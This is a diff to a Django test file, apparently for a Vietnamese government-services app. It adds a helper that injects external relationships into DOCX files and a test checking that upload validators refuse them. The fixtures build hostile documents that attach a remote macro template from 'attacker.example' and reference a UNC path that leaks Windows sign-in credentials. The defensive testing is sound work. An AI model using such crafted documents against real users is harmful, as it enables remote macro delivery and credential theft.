@@ -15,6 +15,7 @@ from pathlib import Path
 
 import docx as python_docx
 import pytest
+from django.core.exceptions import ValidationError
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
 from django.utils import translation
@@ -42,6 +43,31 @@ def tiny_docx(*lines: str) -> bytes:
 def everything_in(data: bytes) -> bytes:
     with zipfile.ZipFile(io.BytesIO(data)) as archive:
         return b"".join(archive.read(name) for name in archive.namelist())
+
+
+def with_relationship(data: bytes, part: str, kind: str, target: str) -> bytes:
+    """The DOCX with one more relationship in `part` (created if absent), External."""
+    relationship = (
+        f'<Relationship Id="rIdX" Type="{kind}" Target="{target}" TargetMode="External"/>'
+    )
+    source = zipfile.ZipFile(io.BytesIO(data))
+    output = io.BytesIO()
+    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
+        for item in source.infolist():
+            content = source.read(item.filename)
+            if item.filename == part:
+                content = content.replace(
+                    b"</Relationships>", relationship.encode() + b"</Relationships>"
+                )
+            archive.writestr(item, content)
+        if part not in source.namelist():
+            archive.writestr(
+                part,
+                '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
+                f'relationships">{relationship}</Relationships>',
+            )
+    return output.getvalue()
 
 
 @pytest.fixture
@@ -205,6 +231,43 @@ class TemplateUploadTests(BaseTestCase):
         assert response.status_code == 200
         assert DocumentTemplate.objects.count() == 0
         assert "mẫu" in response.content.decode().lower()
+
+    def test_a_template_or_evidence_that_fetches_a_file_when_opened_is_refused(self):
+        # An attacker's walk: a template whose settings attach a macro template from another
+        # server (or a UNC path, handing over the reader's Windows sign-in) was accepted, and
+        # every document made from it carried the link; so was the same file as evidence.
+        hostile = with_relationship(
+            tiny_docx("Thông báo"),
+            "word/_rels/settings.xml.rels",
+            "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate",
+            "http://attacker.example/macro.dotm",
+        )
+        response = self.upload("home_affairs", hostile)
+        assert DocumentTemplate.objects.count() == 0
+        assert "tải một tệp từ nơi khác" in response.content.decode()
+        from cchc.core.zipcheck import fetches_external
+
+        assert fetches_external(io.BytesIO(hostile))
+        unc = with_relationship(
+            tiny_docx("x"),
+            "word/_rels/document.xml.rels",
+            "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image",
+            "file://///attacker/share/x.png",
+        )
+        assert fetches_external(io.BytesIO(unc))
+        # A hyperlink opens only when clicked: kept.
+        link = with_relationship(
+            tiny_docx("x"),
+            "word/_rels/document.xml.rels",
+            "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink",
+            "https://dichvucong.gov.vn/",
+        )
+        assert not fetches_external(io.BytesIO(link))
+        from cchc.assessments.services.evidence import _check_office
+
+        with pytest.raises(ValidationError):
+            _check_office(SimpleUploadedFile("x.docx", hostile), "docx")
+        _check_office(SimpleUploadedFile("y.docx", link), "docx")
 
     def test_the_register_says_which_names_a_template_may_use(self):
         self.login("home_affairs")
